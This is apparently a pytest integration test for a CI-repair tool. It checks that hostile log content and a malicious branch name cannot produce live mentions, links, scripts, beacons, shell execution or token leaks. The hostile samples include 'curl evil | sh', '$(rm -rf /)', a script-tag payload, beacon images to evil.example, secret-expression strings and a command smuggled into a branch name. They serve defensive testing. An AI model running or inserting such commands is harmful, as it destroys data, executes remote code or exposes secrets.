"""Hostile content through every stage: nothing pings, links, escapes its fence, beacons or reaches a shell."""

from __future__ import annotations

import re
import subprocess

import pytest

from autoheal.invoke import invoke
from autoheal.markdown import GITHUB_BODY_LIMIT

from .markdown_check import live_issue_refs, live_mentions, unbalanced_fences

HOSTILE_LINES = [
    "@org/team @alice please look",
    "see #1 and GH-2 and octo/other#3",
    "</details></summary><script>alert(1)</script>",
    "``` escaped the fence? ```` ~~~",
    "![x](http://evil.example/beacon.png) <img src=http://evil.example/b.gif>",
    "$(rm -rf /) `touch /tmp/pwned` ; curl evil | sh",
    "${{ secrets.X }} ${{ github.token }}",
    "::add-mask::nothing ::set-output name=x::y",
]
BRANCH = "feat/$(touch${IFS}pwned);echo`id`"


def hostile_log() -> str:
    ts = "2026-01-05T10:00:00.0000000Z "
    lines = ["##[group]Run pytest -q", "pytest -q", "##[endgroup]"]
    lines += HOSTILE_LINES
    lines += ["x" * 1_000_000]  # a 1 MB line
    lines += ["E   ModuleNotFoundError: No module named 'yaml'", "@org/team " + HOSTILE_LINES[1],
              "##[error]Process completed with exit code 1."]
    return "".join(ts + line + "\n" for line in lines)


@pytest.fixture
def recorded_subprocesses(monkeypatch):
    calls = []
    real = subprocess.Popen.__init__

    def spy(self, args, *a, **kw):
        calls.append(args)
        return real(self, args, *a, **kw)

    monkeypatch.setattr(subprocess.Popen, "__init__", spy)
    return calls


def gh_issue(sim, n: int) -> None:
    gh = sim.github()
    gh.get_repo("octo/app").create_issue(f"unrelated {n}", body="x")


def test_hostile_log_and_branch_through_the_chain(sim, tmp_path, recorded_subprocesses):
    sim.create_repo("octo/app", files={"requirements.txt": "requests==2.32.0\n",
                                       ".github/workflows/ci.yml": "name: CI\non: push\njobs: {test: {runs-on: x, steps: [{run: pytest}]}}\n",
                                       ".github/autoheal.yml": "min_confidence: 0\npull_requests:\n  min_confidence: 0\n"
                                                               "runs:\n  branches: ['*']\n"})  # a feature branch
    sim.add_collaborator("octo/app", sim.login)  # the token is autoheal's identity: a member of the repository
    for n in (1, 2, 3):  # the issues the hostile text points at exist, so a live link would really link
        gh_issue(sim, n)
    run_id = sim.add_run("octo/app", workflow="CI", branch=BRANCH, conclusion="failure",
                         jobs=[{"name": "test @org/team #1", "conclusion": "failure",
                                "steps": [{"name": "Run pytest", "conclusion": "failure"}], "log": hostile_log()}])
    common = dict(api_url=sim.base_url, token=sim.token, repo="octo/app", workspace=tmp_path)
    heal = invoke("heal", {"run-id": run_id}, **common)
    assert heal.exit_code == 0, heal.stdout[-3000:] + heal.stderr[-3000:]
    assert heal.outputs.get("issue-number"), heal.stdout[-2000:]
    pr_number = heal.outputs.get("pr-number")
    assert pr_number, heal.stdout[-2000:]  # the hostile text went all the way to a draft PR and a hand-off
    monitor = invoke("pr-monitor", {"pr-number": pr_number} if pr_number else {}, **common)
    assert monitor.exit_code == 0, monitor.stdout[-2000:]

    issue_numbers = {i["number"] for i in sim.issues("octo/app")} | {p["number"] for p in sim.pulls("octo/app")}
    assert min(issue_numbers - {1, 2, 3}) > 3
    bodies = []
    for obj in sim.issues("octo/app") + sim.pulls("octo/app"):
        bodies.append(("title", obj["title"]))
        bodies.append(("body", obj.get("body") or ""))
        bodies += [("comment", c["body"]) for c in sim.comments("octo/app", obj["number"])]
    assert bodies
    for kind, text in bodies:
        assert len(text) <= GITHUB_BODY_LIMIT, kind
        assert not live_mentions(text), (kind, live_mentions(text), text[:500])
        # Only autoheal's own deliberate links (to the issues and PRs it created) may be live.
        assert not live_issue_refs(text, allowed=issue_numbers - {1, 2, 3}), (kind, text[:500])
        prose = re.sub(r"```.*?```", "", text, flags=re.S)
        assert "</details></summary><script>" not in prose
        assert "![x](http://evil" not in prose and "<img src=http://evil" not in prose
        assert not unbalanced_fences(text), kind
    for branch in sim.branches("octo/app"):
        assert subprocess.run(["git", "check-ref-format", "--branch", branch], capture_output=True).returncode == 0
        assert "$(" not in branch and "`" not in branch and ";" not in branch
    # No subprocess received untrusted text (the only ones are our own git check above, and library lookups).
    hostile_fragments = ("rm -rf", "pwned", "evil", "secrets.X", "@org", "IFS")
    for call in recorded_subprocesses:
        joined = " ".join(map(str, call)) if isinstance(call, (list, tuple)) else str(call)
        assert not any(fragment in joined for fragment in hostile_fragments), call
    for inv in (heal, monitor):
        for text in (inv.stdout, inv.stderr, inv.summary, *inv.outputs.values()):
            # The runner needs the secret once, in the ::add-mask:: command that tells it to hide it.
            visible = "\n".join(ln for ln in text.splitlines() if not ln.startswith(f"::add-mask::{sim.token}"))
            assert sim.token not in visible
            assert not any(line.startswith("::set-output") or line.startswith("::add-mask::nothing")
                           for line in text.splitlines())
